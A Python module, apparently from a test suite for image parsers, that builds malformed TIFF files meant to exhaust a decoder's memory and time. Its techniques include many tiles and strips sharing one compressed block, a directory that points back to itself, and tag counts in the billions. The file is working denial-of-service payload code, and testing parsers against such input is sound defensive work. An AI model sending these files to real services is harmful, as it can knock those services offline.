"""TIFF: tiles and strips that share their data, so that each second of work costs a few bytes of file."""

from __future__ import annotations

import struct
import zlib
from functools import partial

from PIL import Image

from support.attacks.attack import Attack
from support.attacks.scans import SIDE, many_scans
from support.writers import saved

DEFLATE, LZW, PACKBITS, JPEG = 8, 5, 32773, 7


def directory(entries: dict[int, tuple[int, list[int]]], data: bytes, *, order: str = "<") -> bytes:
    """A TIFF of one directory; in a list of values -1 stands for where `data` lies."""
    kinds = {3: "H", 4: "I"}
    head = 8 + 2 + 12 * len(entries) + 4
    sizes = {
        tag: len(values) * struct.calcsize(kinds[kind]) for tag, (kind, values) in entries.items()
    }
    offset = head + sum(size for size in sizes.values() if size > 4)
    made, beside, at = [], b"", head
    for tag, (kind, values) in sorted(entries.items()):
        values = [offset if value == -1 else value for value in values]
        packed = struct.pack(f"{order}{len(values)}{kinds[kind]}", *values)
        if len(packed) > 4:
            beside += packed
            packed, at = struct.pack(f"{order}I", at), at + len(packed)
        made.append(struct.pack(f"{order}HHI", tag, kind, len(values)) + packed.ljust(4, b"\0"))
    start = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(f"{order}IH", 8, len(entries))
    return start + b"".join(made) + bytes(4) + beside + data


def shared_tiles(
    count: int,
    width: int,
    data: bytes,
    compression: int = DEFLATE,
    *,
    samples: int = 1,
    planes: int = 1,
) -> bytes:
    """An image of one column, in `count` tiles of `width` x 16 pixels, each of them the same `data`."""
    number = count * (samples if planes == 2 else 1)
    return directory(
        {
            256: (4, [1]), 257: (4, [16 * count]), 258: (3, [8] * samples), 259: (3, [compression]),
            262: (3, [2 if samples == 3 else 1]), 277: (3, [samples]), 284: (3, [planes]),
            322: (4, [width]), 323: (4, [16]), 324: (4, [-1] * number), 325: (4, [len(data)] * number),
        },
        data,
    )  # fmt: skip


def shared_strips(rows: int, width: int, data: bytes, compression: int = DEFLATE) -> bytes:
    """A strip a row, each of them the same data, which holds far more than a row."""
    return directory(
        {
            256: (4, [width]), 257: (4, [rows]), 258: (3, [8]), 259: (3, [compression]), 262: (3, [1]),
            273: (4, [-1] * rows), 277: (3, [1]), 278: (4, [1]), 279: (4, [len(data)] * rows),
        },
        data,
    )  # fmt: skip


def zeros(count: int) -> bytes:
    return zlib.compress(bytes(count), 9)


def packbits(count: int) -> bytes:
    return b"\x81\0" * (count // 128 + 1)


def jpeg_strip(data: bytes, side: int) -> bytes:
    """A whole JPEG as the only strip."""
    return directory(
        {
            256: (4, [side]), 257: (4, [side]), 258: (3, [8]), 259: (3, [JPEG]), 262: (3, [1]),
            273: (4, [-1]), 277: (3, [1]), 278: (4, [side]), 279: (4, [len(data)]),
        },
        data,
    )  # fmt: skip


def circle_of_directories() -> bytes:
    """The next directory is the first one."""
    data = saved(Image.new("L", (8, 8)), "TIFF")
    at = struct.unpack("<I", data[4:8])[0]
    end = at + 2 + 12 * struct.unpack("<H", data[at : at + 2])[0]
    return data[:end] + struct.pack("<I", at) + data[end + 4 :]


def huge_count(tag: int, count: int) -> bytes:
    """An entry that claims `count` values."""
    data = saved(Image.new("L", (8, 8)), "TIFF")
    at = struct.unpack("<I", data[4:8])[0]
    for entry in range(at + 2, at + 2 + 12 * struct.unpack("<H", data[at : at + 2])[0], 12):
        if struct.unpack("<H", data[entry : entry + 2])[0] == tag:
            return data[: entry + 4] + struct.pack("<I", count) + data[entry + 8 :]
    raise LookupError(tag)


WIDE = 1 << 22
ATTACKS = tuple(
    Attack(name, file)
    for name, file in {
        "16 TIFF tiles of 64 MB over the same data": lambda: shared_tiles(16, WIDE, zeros(16 * WIDE)),
        "1,000 TIFF tiles of 4 MB over the same data": lambda: shared_tiles(1000, 1 << 18, zeros(1 << 22)),
        "TIFF tiles of PackBits over the same data": lambda: shared_tiles(400, 1 << 18, packbits(1 << 22), PACKBITS),
        "TIFF tiles of planes over the same data": lambda: shared_tiles(64, 1 << 18, zeros(1 << 22), samples=3, planes=2),
        "TIFF tiles without compression over the same data": lambda: shared_tiles(2000, 1 << 18, bytes(1 << 22), 1),
        "one TIFF tile of 2 GB": lambda: shared_tiles(1, 1 << 27, zeros(1 << 25)),
        "TIFF strips over the same data": lambda: shared_strips(4000, 64, zeros(1 << 24)),
        "TIFF strips of 1 row in a wide image": lambda: shared_strips(2000, 40_000, zeros(40_000)),
        "a TIFF directory after itself": circle_of_directories,
        "4 billion TIFF strips": partial(huge_count, 273, 0xFFFFFFFF),
        "500 million TIFF bits": partial(huge_count, 258, 500_000_000),
        "many scans inside TIFF": lambda: jpeg_strip(many_scans(), SIDE),
    }.items()
)  # fmt: skip
